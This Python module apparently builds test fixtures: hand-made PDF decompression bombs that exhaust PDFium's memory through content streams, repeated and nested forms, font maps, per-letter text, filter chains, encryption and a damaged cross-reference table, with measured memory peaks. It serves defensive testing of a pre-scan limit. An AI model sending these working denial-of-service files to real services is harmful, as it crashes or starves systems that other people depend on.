"""Small PDFs whose pages unpack to far more than they hold, one per way PDFium can be made to
unpack: one page's content, one content stream shared by many pages, a form drawn many times
(and forms inside forms), a font program and a character map, text shown a letter at a time,
a filter chain, an encrypted file. Each is written by hand (a few kilobytes to a few hundred)
and built in well under a second: the compressed data is one full-flushed deflate segment of
1 MB repeated (:func:`flate_of`), which unpacks like the real thing.
"""

from __future__ import annotations

import base64
import io
import struct
import zlib

MB = 1024 * 1024
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def flate_of(block: bytes, times: int) -> bytes:
    """zlib data that unpacks to ``block`` (at most 1 MB) repeated ``times`` times."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.flush()
    adler = 1
    for _ in range(times):
        adler = zlib.adler32(block, adler)
    return b"\x78\xda" + segment * times + tail + struct.pack(">I", adler)


def filled(pattern: bytes, size: int) -> tuple[bytes, int]:
    """(a block of whole ``pattern``s of about 1 MB, how many blocks make ``size`` bytes)."""
    block = pattern * max(1, MB // len(pattern))
    return block, max(1, size // len(block))


def stream(data: bytes, entries: bytes = b"", filters: bytes = b"/FlateDecode") -> bytes:
    head = b"<< /Length %d %s" % (len(data), entries)
    if filters:
        head += b" /Filter %s" % filters
    return head + b" >>\nstream\n" + data + b"\nendstream"


def document(objects: dict[int, bytes]) -> bytes:
    """A PDF of numbered objects (1 is the catalog), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    xref = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets.get(number, 0)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


def pages(contents: list[int], objects: dict[int, bytes], resources: bytes = b"") -> bytes:
    """A document whose pages (objects 1000 on) draw the content stream objects given, one
    each (the same object may be given for many pages); the font F1 in every page's resources."""
    resources = b"<< /Font << /F1 3 0 R >> %s >>" % resources
    kids = []
    everything = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 3: FONT, **objects}
    for index, content in enumerate(contents):
        number = 1000 + index
        kids.append(b"%d 0 R" % number)
        everything[number] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
                              b"/Contents %d 0 R /Resources %s >>" % (content, resources))
    everything[2] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(kids), len(kids))
    return document(everything)


def one_page(content: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    """One page whose content stream is ``content`` (already encoded by ``filters``)."""
    return pages([4], {4: stream(content, filters=filters)})


def page_content_bomb(megabytes: int = 300) -> bytes:
    """One page whose content unpacks to ``megabytes`` MB of spaces (300 KB per 300 MB)."""
    return one_page(flate_of(*filled(b" ", megabytes * MB)))


def shared_content_bomb(page_count: int = 200, megabytes: int = 15) -> bytes:
    """``page_count`` pages drawing one content stream of ``megabytes`` MB (under the page
    limit): PDFium unpacks it again for every page."""
    content = flate_of(*filled(b"72 720 m 100 700 l S\n", megabytes * MB))
    return pages([4] * page_count, {4: stream(content)})


def form_bomb(times: int = 200, megabytes: int = 1) -> bytes:
    """One page drawing a form of ``megabytes`` MB of lines ``times`` times (PDFium parses the
    form anew each time: 100 draws of 1 MB took 1.3 GB)."""
    form = flate_of(*filled(b"72 720 m 100 700 l S\n", megabytes * MB))
    return pages([4], {
        4: stream(b"/X1 Do\n" * times, filters=b""),
        5: stream(form, b"/Type /XObject /Subtype /Form /BBox [0 0 612 792]"),
    }, resources=b"/XObject << /X1 5 0 R >>")


def nested_form_bomb(outer: int = 64, inner: int = 64, kilobytes: int = 64) -> bytes:
    """A page draws form A ``outer`` times; A draws form B ``inner`` times; B is ``kilobytes``
    KB of lines: 64 x 64 x 64 KB = 256 MB on one page, from a few kilobytes."""
    block = b"72 720 m 100 700 l S\n" * (kilobytes * 1024 // 21)
    return pages([4], {
        4: stream(b"/A Do\n" * outer, filters=b""),
        5: stream(b"/B Do\n" * inner, b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
                  b"/Resources << /XObject << /B 6 0 R >> >>", filters=b""),
        6: stream(zlib.compress(block, 9), b"/Type /XObject /Subtype /Form /BBox [0 0 612 792]"),
    }, resources=b"/XObject << /A 5 0 R >>")


def font_bomb(key: bytes = b"/ToUnicode", megabytes: int = 200) -> bytes:
    """A page showing text in a font whose character map (``/ToUnicode``) or program
    (``/FontFile2``) unpacks to ``megabytes`` MB (PDFium unpacks both to read the text)."""
    bomb = stream(flate_of(*filled(b"\0", megabytes * MB)))
    if key == b"/ToUnicode":
        font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>"
    else:
        font = (b"<< /Type /Font /Subtype /TrueType /BaseFont /Foo /FontDescriptor 5 0 R >>")
    descriptor = (b"<< /Type /FontDescriptor /FontName /Foo /Flags 32 /FontBBox [0 0 1000 1000] "
                  b"/ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 "
                  b"/FontFile2 6 0 R >>")
    text = b"BT /F1 12 Tf 72 720 Td (glocal words) Tj ET"
    return pages([4], {3: font, 4: stream(text, filters=b""), 5: descriptor, 6: bomb})


def text_bomb(megabytes: int = 4) -> bytes:
    """One page showing one letter at a time, ``megabytes`` MB of ``(a)Tj`` (a 7 KB file; PDFium
    keeps some 230 bytes a character: 4 MB peaked at 563 MB)."""
    block, times = filled(b"(a)Tj ", megabytes * MB)
    content = zlib.compress(b"BT /F1 12 Tf 72 720 Td " + block * times + b" ET", 9)
    return one_page(content)


def chained_filter_bomb(megabytes: int = 300) -> bytes:
    """The page content bomb behind ``/ASCII85Decode`` (decoded first, then inflated)."""
    data = base64.a85encode(flate_of(*filled(b" ", megabytes * MB))) + b"~>"
    return one_page(data, filters=b"[/ASCII85Decode /FlateDecode]")


def encrypted_bomb(megabytes: int = 64) -> bytes:
    """The page content bomb, encrypted (RC4, empty user password: opens without asking)."""
    import pypdf

    reader = pypdf.PdfReader(io.BytesIO(page_content_bomb(megabytes)))
    writer = pypdf.PdfWriter()
    for page in reader.pages:
        writer.add_page(page)
    writer.encrypt(user_password="", owner_password="owner-secret", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def damaged_bomb(megabytes: int = 300) -> bytes:
    """The page content bomb with its cross-reference table and trailer cut off (PDFium
    rebuilds them by looking for objects)."""
    data = page_content_bomb(megabytes)
    return data[: data.rindex(b"xref")]


def just_under_the_page_limit(megabytes: int = 15) -> bytes:
    """One page of ``megabytes`` MB of line drawing (under the page limit, 16 MB): the heaviest
    drawing the pre-scan lets through (PDFium keeps some 14 bytes per byte of it)."""
    return one_page(flate_of(*filled(b"72 720 m 100 700 l S\n", megabytes * MB)))


def just_under_the_text_limit(strings: int = 1000) -> bytes:
    """One page showing ``strings`` strings of 1,000 letters (a million characters, under the
    text limit of 1 MB a page): the most text the pre-scan lets onto a page."""
    line = b"(" + b"a" * 1000 + b") Tj\n"
    return one_page(zlib.compress(b"BT /F1 12 Tf 72 720 Td " + line * strings + b" ET", 9))
